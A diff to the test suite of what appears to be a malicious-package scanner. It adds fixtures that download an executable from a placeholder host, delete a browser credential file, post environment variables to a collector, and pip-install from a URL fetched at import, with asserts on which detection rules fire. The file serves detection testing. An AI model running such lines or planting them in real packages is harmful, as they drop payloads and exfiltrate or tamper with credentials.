@@ -106,10 +106,11 @@ def test_a_module_with_one_broken_line_is_still_read_for_its_calls(tmp_path):
 
 
 def test_a_script_deep_in_the_package_is_data_one_next_to_setup_is_not(tmp_path):
-    script = "Invoke-WebRequest -Uri https://downloads.placeholder-host.net/placeholder.exe -OutFile $env:TEMP\\p.exe\n"
+    script = ("Invoke-WebRequest -Uri https://downloads.placeholder-host.net/placeholder.exe -OutFile $env:TEMP\\p.exe\n"
+              "Remove-Item \"$env:LOCALAPPDATA\\Placeholder\\User Data\\Local State\"\n")
     deep = _scan(tmp_path, "a", {"demo/driver/bin/reinstall.ps1": script})
     top = _scan(tmp_path, "b", {"install.ps1": script})
-    assert "drop-exe-url" in rules_of(deep) and deep.verdict == "clean"
+    assert {"drop-exe-url", "cred-browser"} <= rules_of(deep) and deep.verdict == "clean"
     assert _weight(top, "drop-exe-url") > _weight(deep, "drop-exe-url")
 
 
@@ -140,3 +141,14 @@ def test_one_variable_of_the_environment_in_a_request_is_configuration(tmp_path)
                                   "'http://collector.placeholder-host.net/', data=str(os.environ).encode())\n"})
     assert "cred-env-dump" not in rules_of(port)
     assert "cred-env-dump" in rules_of(whole)
+
+
+def test_a_package_installed_from_a_fetched_address_at_import_is_download_and_run(tmp_path):
+    head = "import subprocess, requests\n"
+    fetched = _scan(tmp_path, "a", {"demo/__init__.py": head + "def go():\n"
+                                    "    url = requests.get('https://placeholder-host.net/next').text\n"
+                                    "    subprocess.run(['pip', 'install', 'git+' + url])\ngo()\n"})
+    fixed = _scan(tmp_path, "b", {"demo/__init__.py": "import subprocess\ndef go():\n"
+                                  "    subprocess.run(['pip', 'install', 'placeholder-extra'])\ngo()\n"})
+    assert "download-exec" in rules_of(fetched) and fetched.verdict == "malicious"
+    assert "download-exec" not in rules_of(fixed) and fixed.verdict == "clean"
